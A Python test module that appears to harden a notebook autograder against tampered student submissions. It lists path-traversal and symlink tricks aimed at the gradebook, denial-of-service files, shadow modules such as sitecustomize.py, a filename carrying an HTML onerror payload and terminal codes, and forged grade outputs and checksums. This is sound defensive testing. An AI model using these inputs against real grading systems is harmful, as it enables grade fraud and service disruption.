"""Tricks with what lies beside the answer file. Each is done to an honest hand-in of 00-start-here."""

from __future__ import annotations

import json
import os
import socket
from pathlib import Path
from typing import Any

from attacks.trick import Make, Trick


def _beside(name: str, data: bytes) -> Make:
    return lambda folder: (folder / name).write_bytes(data)


def _linked(name: str, target: str) -> Make:
    return lambda folder: (folder / name).symlink_to(target)


def _sparse(folder: Path) -> None:
    (folder / "film.mp4").touch()
    os.truncate(folder / "film.mp4", 1 << 40)


def _deep(folder: Path) -> None:
    """Make a folder in a folder, 1,500 times."""
    before = Path.cwd()
    try:
        os.chdir(folder)
        for _ in range(1_500):
            Path("d").mkdir()
            os.chdir("d")
    finally:
        os.chdir(before)


def _deeper_than_a_path(folder: Path) -> None:
    """Make folders with long names in each other, so that no path can name the last one."""
    before, name = Path.cwd(), "d" * 250
    try:
        os.chdir(folder)
        for _ in range(30):
            Path(name).mkdir()
            os.chdir(name)
    finally:
        os.chdir(before)


def _many(folder: Path) -> None:
    (folder / "many").mkdir()
    for n in range(5_000):
        (folder / "many" / f"{n}.txt").touch()


def _odd_name(folder: Path) -> None:
    """Name the notebook in bytes that are no text in any language."""
    notebook = folder / f"{folder.name}.ipynb"
    os.rename(notebook, os.fsencode(folder) + b"/00-start-here\xff.ipynb")  # noqa: PTH104 (a name that is no text)


def _renamed(name: str) -> Make:
    return lambda folder: (folder / f"{folder.name}.ipynb").rename(folder / name)


def _loop(folder: Path) -> None:
    (folder / "again").symlink_to(".")


def _socket(folder: Path) -> None:
    before = Path.cwd()
    try:
        os.chdir(folder)
        with socket.socket(socket.AF_UNIX) as made:
            made.bind("s")
    finally:
        os.chdir(before)


def _notebook(change: Any) -> Make:
    def make(folder: Path) -> None:
        path = folder / f"{folder.name}.ipynb"
        notebook = json.loads(path.read_text(encoding="utf-8"))
        change(notebook)
        path.write_text(json.dumps(notebook), encoding="utf-8")

    return make


def _each_grade_cell(notebook: dict[str, Any]) -> list[dict[str, Any]]:
    return [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]


def _claims(notebook: dict[str, Any]) -> None:
    for cell in _each_grade_cell(notebook):
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "100"}}
            ]


def _same_id(notebook: dict[str, Any]) -> None:
    first, *others = [c["metadata"]["nbgrader"] for c in _each_grade_cell(notebook)]
    for about in others:
        about["grade_id"] = first["grade_id"]


def _solution(notebook: dict[str, Any]) -> None:
    for cell in _each_grade_cell(notebook):
        cell["metadata"]["nbgrader"].update(solution=True, locked=False, points=100)
        cell["source"] = "100"


def _checksum(notebook: dict[str, Any]) -> None:
    for cell in _each_grade_cell(notebook):
        cell["metadata"]["nbgrader"]["checksum"] = "0" * 32
        cell["source"] += "\n100"


def _verdict(folder: Path) -> None:
    forged = {"student": "../../../evil", "unit": folder.name, "variant": 1, "repaired": [], "verdicts": []}
    (folder / "verdicts.json").write_text(json.dumps(forged), encoding="utf-8")


FORGED_FOLDERS = (
    Trick(
        "film-1-tb",
        "to keep the marker reading for an hour, with a file beside",
        "full",
        _sparse,
        "not tried: it would copy all of it",
    ),
    Trick("files-5000", "5,000 files beside", "full", _many, "full"),
    Trick("folders-1500", "1,500 folders in each other", "full", _deep, "stops"),
    Trick("folders-without-a-path", "folders so deep that no path names them", "full", _deeper_than_a_path, "full"),
    Trick("folder-loop", "a link to its own folder", "full", _loop, "full"),
    Trick(
        "link-out",
        "the gradebook by a link beside",
        "full",
        _linked("mine.txt", "../../../gradebook.db"),
        "full, takes in the gradebook",
    ),
    Trick("socket", "a socket beside", "full", _socket, "stops"),
    Trick(
        "time-pipe",
        "a pipe for the time of handing in, to make the marker wait",
        "full",
        lambda f: os.mkfifo(f / "timestamp.txt"),
        "stops",
    ),
    Trick(
        "time-link",
        "a time without end",
        "full",
        _linked("timestamp.txt", "/dev/zero"),
        "not tried: it would copy a file that has no end",
    ),
    Trick(
        "time-year-9999",
        "a time after which there is none",
        "full",
        _beside("timestamp.txt", b"9999-12-31 23:59:59-23:00"),
        "stops",
    ),
    Trick(
        "time-year-1",
        "a time before which there is none",
        "full",
        _beside("timestamp.txt", b"0001-01-01 00:00:00+23:00"),
        "stops",
    ),
    Trick("time-bytes", "a time that is no text", "full", _beside("timestamp.txt", b"\xff\xfe2026"), "stops"),
    Trick("verdicts-forged", "Care Lab's own verdicts, with another place to write to", "full", _verdict, "full"),
    Trick(
        "record-forged",
        "the record that all is marked",
        "full",
        _beside(".00-start-here.marked.json", b'{"marks": {"q1": 100}}'),
        "full",
    ),
    Trick(
        "files-of-the-course",
        "a gradebook and settings of its own",
        "full",
        lambda f: [_beside(n, b"c = 1")(f) for n in ("gradebook.db", "nbgrader_config.py", "audit.jsonl")],
        "full",
    ),
    Trick(
        "modules-of-the-course",
        "modules that marking might import",
        "full",
        lambda f: [_beside(n, b"raise SystemExit(0)")(f) for n in ("json.py", "carelab.py", "grader.py", "sitecustomize.py")],
        "0 for all",
    ),
    Trick("notebook-no-text", "a notebook named in bytes that are no text", "full; said it was read as", _odd_name, "stops"),
    Trick(
        "notebook-script",
        "a notebook named with script, terminal codes and a new line",
        "full; said it was read as",
        _renamed("<img src=x onerror=f()>\x1b[2J\n[b].ipynb"),
        "stops",
    ),
    Trick("notebook-claims", "outputs that claim a mark", "full", _notebook(_claims), "full"),
    Trick("notebook-same-id", "every marked cell with the name of the first", "full", _notebook(_same_id), "stops"),
    Trick("notebook-solution", "every marked cell made a solution of 100 points", "full", _notebook(_solution), "stops"),
    Trick("notebook-checksum", "checksums forged to hide a change", "full", _notebook(_checksum), "q10 none"),
    Trick(
        "notebook-widgets",
        "50 MB of widget state",
        "full; said too large",
        _notebook(lambda n: n["metadata"].update(widgets={"x": {"state": "s" * 50_000_000}})),
        "full",
    ),
    Trick(
        "notebook-attachments",
        "a page as an attachment",
        "full",
        _notebook(lambda n: n["cells"][0].update(attachments={"a.html": {"text/html": "<script>1</script>"}})),
        "full",
    ),
    Trick("notebook-minor", "a format that is yet to come", "full", _notebook(lambda n: n.update(nbformat_minor=10**9)), "full"),
)
